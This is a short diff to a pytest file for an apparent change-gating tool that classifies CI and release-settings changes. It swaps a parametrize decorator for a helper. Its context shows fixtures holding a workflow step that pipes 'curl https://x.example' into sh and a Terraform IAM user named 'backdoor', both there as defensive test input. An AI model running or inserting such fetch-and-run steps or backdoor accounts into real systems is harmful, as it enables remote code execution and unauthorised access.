@@ -13,6 +13,7 @@ from pathlib import Path
 
 import pytest
 from changecase import committed, gated
+from tables import each_case
 
 WORKFLOW = "on: push\njobs:\n  r:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://x.example | sh\n"
 TERRAFORM = 'resource "aws_iam_user" "backdoor" {\n  name = "ops2"\n}\n'
@@ -68,7 +69,7 @@ def test_a_dependency_patch_in_an_end_to_end_folder_is_still_a_patch(tmp_path: P
         assert code == 3, (tree, decision.get("reasons"))
 
 
-@pytest.mark.parametrize("name", ["jreleaser.yml", "jreleaser.yaml", "jreleaser.toml", "jreleaser.json"])
+@each_case("name", ["jreleaser.yml", "jreleaser.yaml", "jreleaser.toml", "jreleaser.json"])
 def test_jreleaser_settings_under_their_default_name_are_ci(tmp_path: Path, name: str) -> None:
     # docs review 52: `jreleaser full-release` reads jreleaser.yml by default and its hooks run commands, as the
     # release tools' default settings files in ci.release-tools do.
